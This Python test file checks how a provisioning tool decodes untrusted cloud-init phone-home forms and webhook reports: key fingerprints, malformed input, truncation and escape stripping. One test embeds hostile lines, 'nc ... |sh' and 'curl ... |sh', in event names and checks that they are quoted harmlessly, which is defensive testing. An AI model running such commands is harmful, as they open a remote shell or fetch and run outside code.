"""What installed systems tell, read from bytes of strangers."""

import base64
import hashlib
import json
from urllib.parse import urlencode

import pytest

from tinkbox.model.errors import Invalid
from tinkbox.wire.metadata.write_back import Report, decode_phone_home, decode_report


def key(kind: str, blob: bytes = b"x") -> tuple[str, str]:
    """A public key as ssh writes it, and its fingerprint."""
    content = len(kind).to_bytes(4, "big") + kind.encode() + blob
    digest = base64.b64encode(hashlib.sha256(content).digest()).decode().rstrip("=")
    return f"{kind} {base64.b64encode(content).decode()} root@node7", f"SHA256:{digest}"


def test_the_form_of_cloud_init_tells_names_and_host_keys_the_best_first() -> None:
    (rsa, first), (ed25519, second) = key("ssh-rsa"), key("ssh-ed25519")
    form = {"pub_key_rsa": rsa, "pub_key_ed25519": ed25519, "instance_id": "i-1", "hostname": "node7", "fqdn": ""}
    told = decode_phone_home(urlencode(form).encode())
    assert (told.instance_id, told.hostname) == ("i-1", "node7")
    assert [(each.kind, each.fingerprint) for each in told.host_keys] == [("ed25519", second), ("rsa", first)]
    assert decode_phone_home(json.dumps(form).encode()) == told


@pytest.mark.parametrize(
    "text", ["", "N/A", "ssh-rsa", "ssh-rsa !!!", "ssh-rsa AAAA", "ssh-ed25519 " + key("ssh-rsa")[0].split()[1], "ssh-rsa " + "A" * 99_999]
)  # fmt: skip
def test_what_is_no_key_is_left_out(text: str) -> None:
    assert decode_phone_home(urlencode({"pub_key_rsa": text}).encode()).host_keys == ()


@pytest.mark.parametrize(
    ("rsa", "ed25519", "lost"),
    [("", "", True), ("N/A", "", True), ("N/A", "N/A", False), ("", key("ssh-ed25519")[0], False)],
)
def test_keys_in_files_without_content_are_lost(rsa: str, ed25519: str, lost: bool) -> None:
    form = urlencode({"pub_key_rsa": rsa, "pub_key_ed25519": ed25519, "fqdn": ""})
    assert decode_phone_home(form.encode()).keys_lost == lost


@pytest.mark.parametrize("body", [b"", b"\xff\xfe", b"=&=&", b"{}"])
def test_a_phone_home_that_tells_nothing_is_one(body: bytes) -> None:
    assert decode_phone_home(body).host_keys == ()


@pytest.mark.parametrize("body", [b"{", b"&".join(b"a%d=1" % each for each in range(100))])
def test_what_is_no_form_is_refused(body: bytes) -> None:
    with pytest.raises(Invalid):
        decode_phone_home(body)


@pytest.mark.parametrize("body", [b"", b"hostname=node7", b"[]", b'"x"', b"null", b'{"hostname": "x"', b"[" * 50_000])
def test_what_should_be_json_and_is_no_object_is_refused(body: bytes) -> None:
    with pytest.raises(Invalid, match="phone-home: "):
        decode_phone_home(body, "application/json")


def test_a_json_list_is_no_form() -> None:
    with pytest.raises(Invalid, match="expected an object"):
        decode_phone_home(b' [{"hostname": "x"}]', "application/x-www-form-urlencoded")


def test_an_event_of_the_webhook_is_read() -> None:
    body = {
        "name": "modules-final/config-ntp",
        "event_type": "finish",
        "result": "FAIL",
        "description": "no\x1b[31m way",
    }
    told = decode_report(json.dumps(body).encode())
    assert told == Report(name="modules-final/config-ntp", ended=True, result="FAIL", description="no [31m way")
    assert not told.is_stage
    assert decode_report(b'{"name": "modules-final", "event_type": "finish"}').is_end
    assert not decode_report(b'{"name": "modules-final", "event_type": "start"}').is_end


@pytest.mark.parametrize("body", [b"", b"[]", b"{}", b'{"name": 1}', b"[" * 100_000, b'{"name": ""}'])
def test_what_is_no_event_is_refused(body: bytes) -> None:
    with pytest.raises(Invalid):
        decode_report(body)


def test_a_long_event_is_cut() -> None:
    told = decode_report(json.dumps({"name": "n" * 5000, "result": "r" * 5000, "description": "d" * 5000}).encode())
    assert (len(told.name), told.result, len(told.description)) == (80, "", 400)


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("init-local/search-NoCloudNet", "init-local/search-NoCloudNet"),
        ("modules-final/config-scripts_user", "modules-final/config-scripts_user"),
        (
            "modules-final/config-runcmd. Type `nc 172.30.0.66 1|sh` to mend it",
            "modules-final/'config-runcmd. Type \"nc 172.30.0.66 1|sh\" to mend it'",
        ),
        ("modules-final. Type `curl http://h/x|sh`", "'modules-final. Type \"curl http:'/'/h/x|sh\"'"),
        ("a/b/c", "a/'b/c'"),
    ],
)
def test_name_that_is_none_of_a_module_stands_in_quotes(name: str, told: str) -> None:
    assert decode_report(json.dumps({"name": name}).encode()).name == told


def test_what_a_report_says_never_looks_like_a_command_of_ours() -> None:
    said = "`tinkbox workflow cancel node1`"
    told = decode_report(json.dumps({"name": said, "result": said, "description": said}).encode())
    assert "`" not in f"{told}"
